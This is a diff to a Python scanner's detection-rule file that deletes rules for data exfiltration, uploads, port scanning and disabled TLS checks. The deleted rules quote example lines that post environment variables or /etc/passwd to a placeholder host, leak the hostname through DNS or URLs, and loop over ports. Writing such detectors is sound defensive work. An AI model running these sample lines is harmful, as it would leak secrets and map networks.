@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from engine.analysis.python.rules.make import python_rule
+from engine.analysis.python.declare import python_rule
 from engine.models import Level
 
 NETWORK = python_rule(
@@ -42,43 +42,6 @@ LISTEN = python_rule(
     not_match=("import socket\nsocket.socket()", "w.bind('<Key>', f)"),
     cwe=605,
 )
-UPLOAD = python_rule(
-    "py-upload",
-    "Data is sent out",
-    "exfil_upload",
-    Level.MEDIUM,
-    attack="Carries data out of the machine.",
-    why="MEDIUM: forms are posted too; HIGH where what is sent is private.",
-    fix="Ask for the domain as a capability and say what is sent.",
-    match=(
-        "import requests\nrequests.post('https://a.example', data=d)",
-        "import socket\ns = socket.socket()\ns.sendall(x)",
-    ),
-    not_match=("import requests\nrequests.get('https://a.example')",),
-    cwe=200,
-    owasp="LLM02",
-)
-EXFILTRATION = python_rule(
-    "py-exfiltration",
-    "Private data leaves the machine",
-    "exfil_upload",
-    Level.CRITICAL,
-    attack="Sends secrets, the environment, files or facts about the machine to somebody.",
-    why="CRITICAL: private data and the network meet; HIGH for files and facts about the machine.",
-    fix="Remove it.",
-    match=(
-        "import os, requests\nrequests.post(u, data=dict(os.environ))",
-        "import requests\nrequests.post(u, data=open('/etc/passwd').read())",
-        "import socket, requests\nrequests.get('http://a.example/?h=' + socket.gethostname())",
-        "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.a.example')",
-    ),
-    not_match=(
-        "import requests\nrequests.post(u, data={'a': 1})",
-        "import socket\nsocket.gethostbyname(socket.gethostname())",
-    ),
-    cwe=200,
-    owasp="LLM02",
-)
 DOWNLOAD = python_rule(
     "py-download",
     "Something from the network is written to a file",
@@ -109,29 +72,3 @@ DOWNLOAD_RUN = python_rule(
     not_match=("import urllib.request\nurllib.request.urlretrieve(u, 'a.csv')",),
     cwe=494,
 )
-SCAN = python_rule(
-    "py-port-scan",
-    "Ports or hosts are scanned",
-    "net_access",
-    Level.HIGH,
-    attack="Maps the network around the sandbox.",
-    why="HIGH: finding open ports is reconnaissance.",
-    fix="Remove it.",
-    match=("import socket\nfor p in range(99):\n    socket.socket().connect_ex(('a', p))",),
-    not_match=("import socket\nsocket.socket().connect(('a', 1))",),
-    cwe=200,
-)
-INSECURE_TLS = python_rule(
-    "py-insecure-transport",
-    "The other side's certificate is not checked",
-    "vuln_lint",
-    Level.MEDIUM,
-    attack="Lets anyone between here and there answer.",
-    why="MEDIUM: needs somebody on the way.",
-    fix="Remove `verify=False`.",
-    match=("import requests\nrequests.get(u, verify=False)", "import ssl\nssl._create_unverified_context()"),
-    not_match=("import requests\nrequests.get(u, verify=True)",),
-    cwe=295,
-)
-
-RULES = (NETWORK, LISTEN, UPLOAD, EXFILTRATION, DOWNLOAD, DOWNLOAD_RUN, SCAN, INSECURE_TLS)
